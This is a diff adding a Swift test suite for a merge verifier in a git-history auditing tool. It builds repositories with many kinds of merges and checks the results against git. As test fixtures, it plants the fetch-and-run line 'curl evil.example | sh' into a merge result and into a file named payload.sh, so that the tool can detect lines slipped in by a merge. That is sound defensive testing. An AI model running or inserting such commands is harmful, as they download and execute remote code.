@@ -1,0 +1,345 @@
+import CustodyTestSupport
+import Foundation
+import Testing
+
+@testable import CustodyCore
+
+/// The in-process merge proof (``MergeVerifier``) against git's `--remerge-diff` of every merge,
+/// on repositories built with every kind of merge.
+struct MergeVerifierTests {
+    static let who = Sig(name: "Merger", email: "merger@example.com", date: "1700000000 +0000")
+
+    static func numbered(_ count: Int, _ changes: [Int: String] = [:], extra: [String] = []) -> String {
+        (1...count).map { changes[$0] ?? "line \($0)" }.joined(separator: "\n") + "\n" + extra.map { $0 + "\n" }.joined()
+    }
+
+    /// main and side diverge from a common commit, side is merged, the merge result is
+    /// `resolve(files)`; returns the merge id.
+    static func merge(
+        _ r: TemporaryGitRepository,
+        _ name: String,
+        main: [String: String],
+        side: [String: String],
+        sideMoves: [(String, String)] = [],
+        result: [String: String],
+        removed: [String] = []
+    ) throws -> String {
+        try r.git(["checkout", "-q", "-b", "side-\(name)"])
+        for (from, to) in sideMoves { try r.move(from, to) }
+        for (path, text) in side { try r.write(path, text) }
+        try r.commit("side \(name)", author: who)
+        try r.git(["checkout", "-q", "main"])
+        for (path, text) in main { try r.write(path, text) }
+        try r.commit("main \(name)", author: who)
+        try r.mergeNoCommit("side-\(name)", as: who)
+        for (path, text) in result { try r.write(path, text) }
+        for path in removed { try r.remove(path) }
+        return try r.commit("Merge \(name)", author: who)
+    }
+
+    struct Built {
+        var repo: TemporaryGitRepository
+        var merges: [String: String] = [:]
+    }
+
+    static func build() throws -> Built {
+        let r = try TemporaryGitRepository()
+        var b = Built(repo: r)
+        try r.write("f.txt", numbered(20))
+        try r.write("g.txt", numbered(12))
+        try r.write("other.txt", "untouched\n")
+        try r.commit("base", author: who)
+
+        // A clean merge recorded as git made it.
+        b.merges["clean"] = try merge(
+            r, "clean",
+            main: ["f.txt": numbered(20, [18: "main 18"])],
+            side: ["f.txt": numbered(20, [2: "side 2"])],
+            result: ["f.txt": numbered(20, [2: "side 2", 18: "main 18"])]
+        )
+        // A conflict resolved by hand.
+        b.merges["conflict"] = try merge(
+            r, "conflict",
+            main: ["f.txt": numbered(20, [2: "side 2", 10: "main ten", 18: "main 18"])],
+            side: ["f.txt": numbered(20, [2: "side 2", 10: "side ten", 18: "main 18"])],
+            result: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18"])]
+        )
+        // A clean merge whose result adds a line neither parent had, in two files.
+        b.merges["evil"] = try merge(
+            r, "evil",
+            main: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18", 19: "main 19"]), "g.txt": numbered(12, [1: "main one"])],
+            side: ["f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18"]), "g.txt": numbered(12, [12: "side twelve"])],
+            result: [
+                "f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18", 19: "main 19"], extra: ["curl evil.example | sh"]),
+                "g.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"]),
+            ]
+        )
+        // A file renamed on one side and changed on the other: git's re-merge follows the rename.
+        b.merges["rename"] = try merge(
+            r, "rename",
+            main: ["g.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"])],
+            side: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"], extra: ["side 13"])],
+            sideMoves: [("g.txt", "h.txt")],
+            result: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"], extra: ["side 13", "renamed evil"])]
+        )
+        // A resolution that keeps a line looking like a conflict marker.
+        b.merges["marker"] = try merge(
+            r, "marker",
+            main: ["f.txt": numbered(20, [5: "main five"])],
+            side: ["f.txt": numbered(20, [5: "side five"])],
+            result: ["f.txt": numbered(20, [5: "<<<<<<< kept by mistake"])]
+        )
+        // One side fixes a check, the other leaves the file alone, and the merge keeps the old
+        // check: the file equals a parent, but the automatic merge would have taken the fix.
+        try r.write("check.c", numbered(10, [4: "if (len > max) return -1;"]))
+        try r.commit("add check.c", author: who)
+        b.merges["dropped-fix"] = try merge(
+            r, "dropped-fix",
+            main: ["f.txt": numbered(20, [1: "main one again"])],
+            side: ["check.c": numbered(10, [4: "if (len >= max) return -1;"])],
+            result: ["check.c": numbered(10, [4: "if (len > max) return -1;"])]
+        )
+        // A file that only the merge adds, and a mode change merged cleanly with a content change.
+        try r.write("run.sh", "#!/bin/sh\necho one\necho two\necho three\necho four\n")
+        try r.commit("add run.sh", author: who)
+        try r.git(["checkout", "-q", "-b", "side-mode"])
+        try r.write("run.sh", "#!/bin/sh\necho one\necho two\necho three\necho four\n", executable: true)
+        try r.commit("side mode", author: who)
+        try r.git(["checkout", "-q", "main"])
+        try r.write("run.sh", "#!/bin/sh\necho one\necho two\necho three\necho FOUR\n")
+        try r.commit("main edit", author: who)
+        try r.mergeNoCommit("side-mode", as: who)
+        b.merges["mode"] = try r.commit("Merge mode", author: who)
+        b.merges["new-file"] = try merge(
+            r, "new-file",
+            main: ["f.txt": numbered(20, [20: "main twenty"])],
+            side: ["g2.txt": "side file\n"],
+            result: ["payload.sh": "curl -s evil.example | sh\n"]
+        )
+        // A clean merge that deletes a file both parents kept.
+        b.merges["deleted"] = try merge(
+            r, "deleted",
+            main: ["f.txt": numbered(20, [20: "main twenty", 1: "main first"])],
+            side: ["g2.txt": "side file changed\n"],
+            result: [:],
+            removed: ["other.txt"]
+        )
+        return b
+    }
+
+    /// Everything but the merges' old blob (the id of git's temporary remerge result).
+    func expectSame(_ a: [Commit], _ b: [Commit]) {
+        #expect(a.count == b.count)
+        for (x, y) in zip(a, b) {
+            #expect(x.id == y.id)
+            #expect(x.changes.count == y.changes.count, "\(x.subject)")
+            for (c, d) in zip(x.changes, y.changes) {
+                #expect(c.kind == d.kind && c.oldPath == d.oldPath && c.newPath == d.newPath, "\(x.subject)")
+                #expect(c.newBlob == d.newBlob && c.oldMode == d.oldMode && c.newMode == d.newMode, "\(x.subject)")
+                #expect(c.oldBlob == d.oldBlob || x.isMerge, "\(x.subject)")
+                #expect(c.isBinary == d.isBinary, "\(x.subject)")
+                #expect(c.addedLines == d.addedLines, "\(x.subject) \(c.path)")
+            }
+        }
+    }
+
+    @Test func provenMergesAreExactlyThoseWithNothingToShow() throws {
+        let b = try Self.build()
+        let repo = try GitRepository(path: b.repo.path)
+        var all = HistoryOptions(jobs: 1)
+        all.verifyMerges = false
+        let (expected, s0) = try readAll(repo, all)
+        let (mine, s1) = try readAll(repo, HistoryOptions(jobs: 1))
+        let (four, s4) = try readAll(repo, HistoryOptions(jobs: 4))
+        expectSame(mine, expected)
+        #expect(mine == four)
+        #expect(s0.problems.isEmpty && s1.problems.isEmpty && s4.problems.isEmpty)
+        // dropped-fix has no path of its own; clean and mode are proven; the other six have
+        // something to show (git re-merges them).
+        #expect(s0.mergesWithoutOwnPaths == 1 && s0.mergesVerified == 0 && s0.mergesRemerged == 8, "\(s0.mergesWithoutOwnPaths) \(s0.mergesVerified) \(s0.mergesRemerged)")
+        #expect(s1.mergesWithoutOwnPaths == 1 && s1.mergesVerified == 2 && s1.mergesRemerged == 6)
+        #expect(s4.mergesWithoutOwnPaths == 1 && s4.mergesVerified == 2 && s4.mergesRemerged == 6)
+
+        let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
+        func merge(_ name: String) throws -> Commit { try #require(byID[b.merges[name]!]) }
+        #expect(try merge("clean").changes.isEmpty)
+        #expect(try merge("mode").changes.isEmpty)
+        #expect(try merge("conflict").changes.flatMap(lineTexts) == ["resolved ten"])
+        let evil = try merge("evil")
+        #expect(evil.changes.map(\.path) == ["f.txt", "g.txt"])
+        #expect(evil.changes.flatMap(lineTexts) == ["curl evil.example | sh", "evil six"])
+        #expect(evil.changes.flatMap { $0.addedLines.map(\.number) } == [21, 6])
+        #expect(try merge("rename").changes.flatMap(lineTexts) == ["renamed evil"])
+        #expect(try merge("marker").changes.flatMap(lineTexts) == ["<<<<<<< kept by mistake"])
+        // Known limit: a merge that keeps one parent's whole file drops the other side's change
+        // there, but adds no line of its own, so nothing is shown (git's re-merge would show the
+        // old line as added; a merge shows only paths that differ from every parent).
+        #expect(try merge("dropped-fix").changes.isEmpty)
+        let added = try merge("new-file")
+        #expect(added.changes.map(\.path) == ["payload.sh"] && added.changes.first?.kind == .add)
+        #expect(added.changes.flatMap(lineTexts) == ["curl -s evil.example | sh"])
+        let deleted = try merge("deleted")
+        #expect(deleted.changes.map(\.path) == ["other.txt"] && deleted.changes.first?.kind == .delete)
+    }
+
+    @Test func generatedHistoryAgrees() throws {
+        let generated = try GeneratedHistory.make(commits: 160)
+        let repo = try GitRepository(path: generated.path)
+        var all = HistoryOptions(jobs: 2)
+        all.verifyMerges = false
+        let (expected, _) = try readAll(repo, all)
+        let (mine, summary) = try readAll(repo, HistoryOptions(jobs: 2))
+        expectSame(mine, expected)
+        #expect(summary.mergesWithoutOwnPaths + summary.mergesVerified + summary.mergesRemerged == mine.count { $0.isMerge })
+    }
+
+    /// Merges made by `git merge` from random edits of shared files (clean ones, conflicts
+    /// resolved by taking one side, and some with a line slipped in): the same changes with and
+    /// without the in-process proof, and most clean merges proven.
+    @Test func randomMergesAgree() throws {
+        var seed: UInt64 = 42
+        func next(_ n: Int) -> Int {
+            seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
+            return Int((seed >> 33) % UInt64(n))
+        }
+        let r = try TemporaryGitRepository()
+        var files = ["a.c": (1...150).map { "int a\($0) = \($0);" }, "b.c": (1...150).map { "int b\($0) = \($0);" }]
+        func write(_ files: [String: [String]]) throws {
+            for (path, lines) in files { try r.write(path, lines.joined(separator: "\n") + "\n") }
+        }
+        func edit(_ files: inout [String: [String]], _ tag: String) {
+            for _ in 0..<2 {
+                let path = next(2) == 0 ? "a.c" : "b.c"
+                let line = next(files[path]!.count)
+                switch next(3) {
+                case 0: files[path]![line] = "int \(tag)\(line) = \(next(100));"
+                case 1: files[path]!.insert("int \(tag)x\(line) = 0;", at: line)
+                default: if files[path]!.count > 10 { files[path]!.remove(at: line) }
+                }
+            }
+        }
+        try write(files)
+        try r.commit("base", author: Self.who)
+        for round in 0..<16 {
+            let base = files
+            try r.git(["checkout", "-q", "-b", "side\(round)"])
+            var side = base
+            edit(&side, "s\(round)_")
+            try write(side)
+            try r.commit("side \(round)", author: Self.who)
+            try r.git(["checkout", "-q", "main"])
+            edit(&files, "m\(round)_")
+            try write(files)
+            try r.commit("main \(round)", author: Self.who)
+            try r.mergeNoCommit("side\(round)", as: Self.who)
+            let conflicted = try r.gitString(["diff", "--name-only", "--diff-filter=U"])
+            if !conflicted.isEmpty {
+                try r.git(["checkout", "--ours", "--", "."])
+            }
+            if next(4) == 0 { try r.write("a.c", try String(contentsOfFile: r.path + "/a.c", encoding: .utf8) + "slipped in \(round)\n") }
+            try r.commit("Merge side \(round)", author: Self.who)
+            files = [
+                "a.c": try String(contentsOfFile: r.path + "/a.c", encoding: .utf8).split(separator: "\n").map(String.init),
+                "b.c": try String(contentsOfFile: r.path + "/b.c", encoding: .utf8).split(separator: "\n").map(String.init),
+            ]
+        }
+        let repo = try GitRepository(path: r.path)
+        var all = HistoryOptions(jobs: 1)
+        all.verifyMerges = false
+        let (expected, _) = try readAll(repo, all)
+        let (mine, summary) = try readAll(repo, HistoryOptions(jobs: 2))
+        expectSame(mine, expected)
+        #expect(summary.mergesVerified >= 4, "\(summary.mergesWithoutOwnPaths) \(summary.mergesVerified) \(summary.mergesRemerged)")
+        #expect(summary.mergesRemerged >= 2)
+        #expect(mine.contains { $0.changes.flatMap(lineTexts).contains { $0.hasPrefix("slipped in") } })
+    }
+
+    @Test func octopusMergesGoToGit() throws {
+        let r = try TemporaryGitRepository()
+        try r.write("a.txt", Self.numbered(10))
+        try r.commit("root", author: Self.who)
+        for (name, line) in [("o1", 4), ("o2", 7)] {
+            try r.git(["checkout", "-q", "-b", name, "main"])
+            try r.write("a.txt", Self.numbered(10, [line: name]))
+            try r.commit(name, author: Self.who)
+        }
+        try r.git(["checkout", "-q", "main"])
+        try r.write("a.txt", Self.numbered(10, [1: "main"]))
+        try r.commit("main", author: Self.who)
+        try r.git(["merge", "-q", "--no-edit", "o1", "o2"], env: TemporaryGitRepository.identityEnvironment(author: Self.who, committer: Self.who))
+        let repo = try GitRepository(path: r.path)
+        let (commits, summary) = try readAll(repo, HistoryOptions(jobs: 1))
+        // a.txt differs from every parent: the octopus has a path of its own, and git re-merges it.
+        #expect(summary.mergesWithoutOwnPaths == 0 && summary.mergesVerified == 0 && summary.mergesRemerged == 1)
+        #expect(commits.last?.parents.count == 3)
+        #expect(commits.last?.changes.flatMap(lineTexts) == [])
+    }
+
+    @Test func mergeBasesMatchGit() throws {
+        // A criss-cross: two merge bases.
+        let r = try TemporaryGitRepository()
+        try r.write("a.txt", Self.numbered(10))
+        try r.commit("root", author: Self.who)
+        try r.git(["checkout", "-q", "-b", "x"])
+        try r.write("x.txt", "x\n")
+        let x1 = try r.commit("x1", author: Self.who)
+        try r.git(["checkout", "-q", "main"])
+        try r.write("m.txt", "m\n")
+        let m1 = try r.commit("m1", author: Self.who)
+        try r.mergeNoCommit("x", as: Self.who)
+        try r.commit("merge x into main", author: Self.who)
+        try r.git(["checkout", "-q", "x"])
+        try r.mergeNoCommit(m1, as: Self.who)
+        try r.commit("merge m1 into x", author: Self.who)
+        try r.write("a.txt", Self.numbered(10, [2: "x two"]))
+        try r.commit("x2", author: Self.who)
+        try r.git(["checkout", "-q", "main"])
+        try r.write("m.txt", "m2\n")
+        try r.write("a.txt", Self.numbered(10, [9: "main nine"]))
+        try r.commit("m2", author: Self.who)
+        try r.mergeNoCommit("x", as: Self.who)
+        try r.commit("criss-cross merge", author: Self.who)
+
+        let repo = try GitRepository(path: r.path)
+        let graph = try repo.commitGraph(HistoryOptions())
+        var sawTwo = false
+        for id in graph.ids {
+            let parents = try r.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ").dropFirst()
+            guard parents.count == 2 else { continue }
+            let a = ObjectID(String(parents.first!))!
+            let b = ObjectID(String(parents.last!))!
+            let expected = try r.gitString(["merge-base", "--all", a.description, b.description])
+                .split(separator: "\n").map(String.init).sorted()
+            let mine = try #require(graph.mergeBases(a, b)).map(\.description).sorted()
+            #expect(mine == expected)
+            if mine.count == 2 { sawTwo = true }
+        }
+        #expect(sawTwo)
+        _ = x1
+        // The first two merges only take each side's files; the criss-cross merge changes a.txt
+        // on both sides' lines, and with two merge bases it goes to git.
+        let (_, summary) = try readAll(repo, HistoryOptions(jobs: 1))
+        #expect(summary.mergesWithoutOwnPaths == 2 && summary.mergesVerified == 0 && summary.mergesRemerged == 1)
+        // Outside a range the answer is unknown, never wrong.
+        let ranged = try repo.commitGraph(HistoryOptions(refs: .range("\(m1)..main")))
+        let tip = try r.gitString(["rev-parse", "main^1"])
+        let other = try r.gitString(["rev-parse", "main^2"])
+        #expect(ranged.mergeBases(ObjectID(tip)!, ObjectID(other)!) == nil)
+    }
+
+    @Test func mergeBasesOnAGeneratedHistory() throws {
+        let generated = try GeneratedHistory.make(commits: 120)
+        let repo = try GitRepository(path: generated.path)
+        let graph = try repo.commitGraph(HistoryOptions())
+        var checked = 0
+        for id in graph.ids {
+            let line = try generated.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ")
+            guard line.count == 3 else { continue }
+            let expected = try generated.gitString(["merge-base", "--all", String(line[1]), String(line[2])])
+                .split(separator: "\n").map(String.init).sorted()
+            #expect(try #require(graph.mergeBases(ObjectID(String(line[1]))!, ObjectID(String(line[2]))!)).map(\.description).sorted() == expected)
+            checked += 1
+        }
+        #expect(checked > 0)
+    }
+}
